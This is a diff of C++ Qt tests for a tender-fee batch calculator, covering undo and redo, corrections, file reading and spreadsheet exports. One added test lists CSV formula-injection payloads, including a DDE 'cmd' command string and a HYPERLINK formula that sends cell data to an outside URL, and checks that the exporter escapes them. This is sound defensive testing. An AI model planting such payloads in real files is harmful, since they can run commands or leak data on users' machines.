@@ -6,12 +6,17 @@
 
 #include <QDir>
 #include <QFile>
+#include <QMessageBox>
 #include <QProcess>
+#include <QPushButton>
+#include <QStringEncoder>
 #include <QTableView>
 #include <QTemporaryDir>
+#include <QTimer>
 
 #include "calc/batch.h"
 #include "calc/calculators.h"
+#include "calc/tender_fee.h"
 #include "ui/batch/batch_model.h"
 #include "ui/batch/batch_window.h"
 #include "ui/batch/table_files.h"
@@ -103,8 +108,10 @@ TEST_F(BatchTest, RowsPastedFromTheClipboardComeBackAsCalculateRowsWritesThem)
     QTest::keySequence(View(batch), QKeySequence::Copy);
     EXPECT_EQ(QGuiApplication::clipboard()->text().toStdString(),
               CalculateRows("tender", kTenderRows));
+    // the doubtful 二标段 is left out of the 合计, and the line says so
     const QString total = batch->findChild<QLabel*>(QStringLiteral("batchTotal"))->text();
-    EXPECT_TRUE(total.contains("29.50")) << total.toStdString();
+    EXPECT_TRUE(total.contains("29.32")) << total.toStdString();
+    EXPECT_TRUE(total.contains("1 行有疑问未计入合计：第 2 行")) << total.toStdString();
     EXPECT_TRUE(total.contains("1 行计算失败")) << total.toStdString();
     // the doubtful cell is marked as the page marks the box
     ui::BatchModel& model = batch->model();
@@ -153,6 +160,152 @@ TEST_F(BatchTest, PastesThatAreTooLongOrNoTableChangeNothing)
     }
 }
 
+// Every change is one step back with Ctrl+Z and forward with Ctrl+Y: a
+// paste, a cell typed, a correction, 全部更正, 清空.
+TEST_F(BatchTest, EveryChangeCanBeUndoneAndDoneAgain)
+{
+    BatchWindow* batch = Open(0);
+    ui::BatchModel& model = batch->model();
+    const auto text = [&](int row, int column) {
+        return model.data(model.index(row, column), Qt::DisplayRole).toString();
+    };
+    const auto keys = [&](QKeySequence::StandardKey key) {
+        QTest::keySequence(View(batch), key);
+        QApplication::processEvents();
+    };
+    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
+    keys(QKeySequence::Paste);
+    ASSERT_EQ(model.rows().size(), 3u);
+    const struct {
+        const char* what;
+        std::function<void()> change;
+        std::function<QString()> shown;  // what the change alters
+    } changes[] = {
+        {"a cell typed", [&] { model.setData(model.index(0, 1), "7000", Qt::EditRole); },
+         [&] { return text(0, 1) + "/" + text(0, 4); }},
+        {"a correction", [&] { model.Correct(1, 1); },
+         [&] { return text(1, 1) + "/" + text(1, 4); }},
+        {"全部更正", [&] { batch->CorrectAll(); }, [&] { return text(1, 1); }},
+        {"清空", [&] { model.Clear(); }, [&] { return QString::number(model.rows().size()); }},
+        {"a paste", [&] { keys(QKeySequence::Paste); },
+         [&] { return QString::number(model.rows().size()); }},
+    };
+    for (const auto& c : changes) {
+        SCOPED_TRACE(c.what);
+        const QString before = c.shown();
+        c.change();
+        const QString after = c.shown();
+        ASSERT_NE(after, before);
+        QTest::keyClick(View(batch), Qt::Key_Z, Qt::ControlModifier);
+        EXPECT_EQ(c.shown(), before);
+        QTest::keyClick(View(batch), Qt::Key_Y, Qt::ControlModifier);
+        EXPECT_EQ(c.shown(), after);
+        QTest::keyClick(View(batch), Qt::Key_Z, Qt::ControlModifier);
+    }
+}
+
+// A marked cell's menu and 全部更正 offer the evident corrections: thousands
+// separators, an amount in yuan; the 合计 takes the lot in once corrected.
+TEST_F(BatchTest, CorrectionsBringDoubtfulLotsIntoTheTotal)
+{
+    BatchWindow* batch = Open(0);
+    ui::BatchModel& model = batch->model();
+    QGuiApplication::clipboard()->setText(
+        "A\t12,800\t工程招标\t否\nB\t60000000\t工程招标\t否\nC\t¥5,000,000\t工程招标\t否\n");
+    batch->Paste();
+    EXPECT_EQ(model.Total().doubtful.size(), 3u);
+    EXPECT_EQ(model.Corrections(), 3);
+    batch->CorrectAll();
+    EXPECT_EQ(model.data(model.index(0, 1), Qt::DisplayRole).toString(), "12800");
+    EXPECT_EQ(model.data(model.index(1, 1), Qt::DisplayRole).toString(), "6000");
+    EXPECT_EQ(model.data(model.index(2, 1), Qt::DisplayRole).toString(), "500");
+    const BatchTotal total = model.Total();
+    EXPECT_TRUE(total.doubtful.empty());
+    EXPECT_EQ(total.sums.back(), "58.30");  // 31.95 + 22.55 + 3.80
+}
+
+// Ctrl+V pastes wherever the focus is in the window, a button's too.
+TEST_F(BatchTest, CtrlVPastesWhereverTheFocusIs)
+{
+    BatchWindow* batch = Open(0);
+    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
+    for (auto* button : batch->findChildren<QPushButton*>()) {
+        if (button->text() == "清空") {
+            QTest::mouseClick(button, Qt::LeftButton);  // as after 清空
+            QTest::keySequence(button, QKeySequence::Paste);
+        }
+    }
+    EXPECT_EQ(batch->model().rows().size(), 3u);
+}
+
+// Closing the batch window, or the main window, with lots not exported asks
+// first: 取消 keeps them, 放弃 lets them go.
+TEST_F(BatchTest, LotsNotExportedAreAskedAboutBeforeClosing)
+{
+    BatchWindow* batch = Open(0);
+    QGuiApplication::clipboard()->setText(QString::fromUtf8(kTenderRows));
+    batch->Paste();
+    const auto answer = [&](const char* choice, const std::function<void()>& close) {
+        QString asked;
+        QTimer poll;
+        poll.setInterval(10);
+        QObject::connect(&poll, &QTimer::timeout, &poll, [&] {
+            auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
+            if (box != nullptr && box->objectName() == "closeGuard") {
+                asked = box->text();
+                for (QAbstractButton* button : box->buttons()) {
+                    if (button->text() == QString::fromUtf8(choice)) {
+                        button->click();
+                    }
+                }
+            }
+        });
+        poll.start();
+        close();
+        poll.stop();
+        return asked;
+    };
+    EXPECT_TRUE(answer("取消", [&] { batch->close(); }).contains("还没有导出"));
+    EXPECT_TRUE(batch->isVisible());
+    answer("取消", [&] { window().close(); });
+    EXPECT_TRUE(window().isVisible());
+    answer("放弃", [&] { batch->close(); });
+    EXPECT_FALSE(batch->isVisible());
+}
+
+// 打开… reads a CSV the batch wrote, a tab-separated file, UTF-8 with a
+// byte-order mark or without, GB18030; a file that is not text changes nothing.
+TEST_F(BatchTest, OpenReadsTheFilesSpreadsheetsWrite)
+{
+    BatchWindow* batch = Open(0);
+    QTemporaryDir folder;
+    const QString table = QString::fromUtf8("标段,中标金额,服务类型\n一标段,6000,工程招标\n");
+    const struct {
+        const char* name;
+        QByteArray bytes;
+        std::size_t rows;  // in the batch after reading it
+    } files[] = {
+        {"bom.csv", "\xEF\xBB\xBF" + table.toUtf8(), 1},
+        {"plain.csv", table.toUtf8(), 2},
+        {"tabs.txt", QString(table).replace(',', '\t').toUtf8(), 3},
+        {"gb18030.csv", QStringEncoder("GB18030").encode(table), 4},
+        {"picture.png", QByteArray("\x89PNG\r\n\x1A\n\0\0\0\rIHDR", 16), 4},
+    };
+    for (const auto& file : files) {
+        SCOPED_TRACE(file.name);
+        QFile out(folder.filePath(file.name));
+        ASSERT_TRUE(out.open(QIODevice::WriteOnly));
+        out.write(file.bytes);
+        out.close();
+        const QString problem = batch->ReadFile(out.fileName());
+        EXPECT_EQ(problem.isEmpty(), file.rows != 4 || std::string(file.name) != "picture.png")
+            << problem.toStdString();
+        EXPECT_EQ(batch->model().rows().size(), file.rows);
+    }
+    EXPECT_EQ(batch->model().data(batch->model().index(3, 0), Qt::DisplayRole).toString(),
+              "一标段");
+}
+
 // Files read back with Python's openpyxl and csv and with pdftotext, or
 // written under a limit on file sizes.
 class BatchSystemTest : public BatchTest {};
@@ -161,30 +314,33 @@ TEST_F(BatchSystemTest, TheTableReadsBackFromExcelAndCsv)
 {
     QTemporaryDir folder;
     const std::vector<Cells> table = ParseTable(CalculateRows("tender", kTenderRows));
-    const std::vector<bool> numbers = {false, false, false, false, true, false, false, false};
+    const auto formats = ui::FormatsOf(ColumnsOf(TenderFeeCalculator()));
     const QString xlsx = folder.filePath("lots.xlsx");
-    ASSERT_EQ(ui::WriteXlsx(xlsx, table, numbers, true), "");
+    ASSERT_EQ(ui::WriteXlsx(xlsx, table, formats, true), "");
     const QString read = Python(QStringLiteral(R"(
 import sys, openpyxl
 sheet = openpyxl.load_workbook(sys.argv[1]).active
 for row in sheet.iter_rows():
     print("|".join("" if c.value is None else (type(c.value).__name__ + ":" + str(c.value)) for c in row))
-print("bold", sheet["A1"].font.b, sheet["E2"].number_format, sheet.column_dimensions["G"].width > 20)
+print("bold", sheet["A1"].font.b, sheet["E2"].number_format, sheet["F2"].number_format,
+      sheet.column_dimensions["G"].width > 20)
 )"),
                                 {xlsx});
     const QStringList lines = read.split('\n', Qt::SkipEmptyParts);
     ASSERT_EQ(lines.size(), 6);
     EXPECT_TRUE(lines[0].startsWith("str:标段|str:中标金额"));
+    // amounts given and 小写 are numbers a spreadsheet can add up; words are text
     EXPECT_EQ(lines[1],
-              "str:一标段|str:6000|str:工程招标|str:是|float:29.32|str:¥293,150.00|str:"
+              "str:一标段|int:6000|str:工程招标|str:是|float:29.32|int:293150|str:"
               "人民币贰拾玖万叁仟壹佰伍拾元整|");
-    EXPECT_TRUE(lines[3].startsWith("str:三标段|str:500|str:货物|str:否|||"));
+    EXPECT_TRUE(lines[2].startsWith("str:二标段|str:12,345.67|")) << lines[2].toStdString();
+    EXPECT_TRUE(lines[3].startsWith("str:三标段|int:500|str:货物|str:否|||"));
     EXPECT_TRUE(lines[4].startsWith("str:合计|||"));
-    EXPECT_TRUE(lines[4].contains("float:29.5|"));
-    EXPECT_EQ(lines[5], "bold True 0.00 True");
+    EXPECT_TRUE(lines[4].contains("float:29.32|int:293150|")) << lines[4].toStdString();
+    EXPECT_EQ(lines[5], "bold True 0.00 ¥#,##0.00 True");
 
     const QString csv = folder.filePath("lots.csv");
-    ASSERT_EQ(ui::WriteCsv(csv, table), "");
+    ASSERT_EQ(ui::WriteCsv(csv, table, formats), "");
     QFile file(csv);
     ASSERT_TRUE(file.open(QIODevice::ReadOnly));
     const QByteArray bytes = file.readAll();
@@ -227,12 +383,12 @@ TEST_F(BatchSystemTest, FigureColumnsAreNumbersWithTheirDecimals)
         }
         const QString path = folder.filePath(QString::fromUtf8(c.calculator) + ".xlsx");
         ASSERT_EQ(
-            ui::WriteXlsx(path, TableOf(columns, rows), ui::NumberColumns(columns), columns.money),
-            "");
+            ui::WriteXlsx(path, TableOf(columns, rows), ui::FormatsOf(columns), columns.money), "");
         const QString read = Python(QStringLiteral(R"(
 import sys, openpyxl
-row = openpyxl.load_workbook(sys.argv[1]).active[2]
-cells = [c for c in row if isinstance(c.value, (int, float))]
+sheet = openpyxl.load_workbook(sys.argv[1]).active
+# the results: the columns headed in 万元 or in days
+cells = [c for c, head in zip(sheet[2], sheet[1]) if "（万元）" in head.value or "日历天" in head.value]
 print(" ".join(str(c.value) for c in cells) + "|" + " ".join(sorted({c.number_format for c in cells})))
 )"),
                                     {path});
@@ -240,11 +396,51 @@ print(" ".join(str(c.value) for c in cells) + "|" + " ".join(sorted({c.number_fo
     }
 }
 
+// A CSV cell that would start a formula in a spreadsheet program gets an
+// apostrophe before it; the figures the program wrote stay as they are.
+TEST_F(BatchSystemTest, ACsvNeverRunsWhatWasPasted)
+{
+    const char* const attacks[] = {
+        "=HYPERLINK(\"http://example.org/\"&A1,\"点击\")",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "-2+3",
+        "＝1+1",
+        "\t=1+1",
+        " =1+1",
+    };
+    std::string rows;
+    for (const char* attack : attacks) {
+        rows += FormatTable({{attack, "-50", "工程招标", "否"}});
+    }
+    const BatchColumns columns = ColumnsOf(TenderFeeCalculator());
+    QTemporaryDir folder;
+    const QString csv = folder.filePath("attacks.csv");
+    ASSERT_EQ(ui::WriteCsv(csv, ParseTable(CalculateRows("tender", rows)), ui::FormatsOf(columns)),
+              "");
+    const QStringList read = Python(QStringLiteral(R"(
+import csv, sys
+with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
+    for row in list(csv.reader(f))[1:-1]:
+        print(repr(row[0]) + "|" + row[1] + "|" + row[4])
+)"),
+                                    {csv})
+                                 .split('\n', Qt::SkipEmptyParts);
+    ASSERT_EQ(read.size(), static_cast<qsizetype>(std::size(attacks)));
+    for (qsizetype i = 0; i < read.size(); ++i) {
+        SCOPED_TRACE(attacks[i]);
+        EXPECT_TRUE(read[i].startsWith("\"'") || read[i].startsWith("'\\'"))
+            << read[i].toStdString();
+        EXPECT_TRUE(read[i].endsWith("|'-50|-0.50"))
+            << read[i].toStdString();  // the fee as written
+    }
+}
+
 TEST_F(BatchSystemTest, AnExportThatCannotBeWrittenKeepsTheOldFile)
 {
     QTemporaryDir folder;
     const std::vector<Cells> table = ParseTable(CalculateRows("tender", kTenderRows));
-    const std::vector<bool> numbers(8, false);
+    const auto formats = ui::FormatsOf(ColumnsOf(TenderFeeCalculator()));
     for (const bool excel : {true, false}) {
         SCOPED_TRACE(excel);
         const QString path = folder.filePath(excel ? "old.xlsx" : "old.csv");
@@ -253,7 +449,8 @@ TEST_F(BatchSystemTest, AnExportThatCannotBeWrittenKeepsTheOldFile)
         old.write("the file from before");
         old.close();
         const QString message = OnANearlyFullDisk(64, [&] {
-            return excel ? ui::WriteXlsx(path, table, numbers, true) : ui::WriteCsv(path, table);
+            return excel ? ui::WriteXlsx(path, table, formats, true)
+                         : ui::WriteCsv(path, table, formats);
         });
         EXPECT_TRUE(message.startsWith("无法写入文件")) << message.toStdString();
         ASSERT_TRUE(old.open(QIODevice::ReadOnly));
@@ -281,8 +478,8 @@ TEST_F(BatchSystemTest, TheBatchSheetHoldsEveryRowTheTotalAndItsCapitals)
     text.remove(QRegularExpression(QStringLiteral("\\s")));
     for (const char* piece :
          {"招标代理服务费计算书（多标段）", "项目名称：城南污水处理厂", "一标段", "二标段",
-          "三标段", "请选择服务类型", "合计", "29.50", "人民币贰拾玖万肆仟玖佰伍拾元整",
-          "1行计算失败，未计入合计", "编制人：张三", "第1页共1页"}) {
+          "三标段", "请选择服务类型", "合计", "29.32", "人民币贰拾玖万叁仟壹佰伍拾元整",
+          "1行有疑问未计入合计：第2行；1行计算失败，未计入合计", "编制人：张三", "第1页共1页"}) {
         EXPECT_TRUE(text.contains(QString::fromUtf8(piece))) << piece;
     }
 }
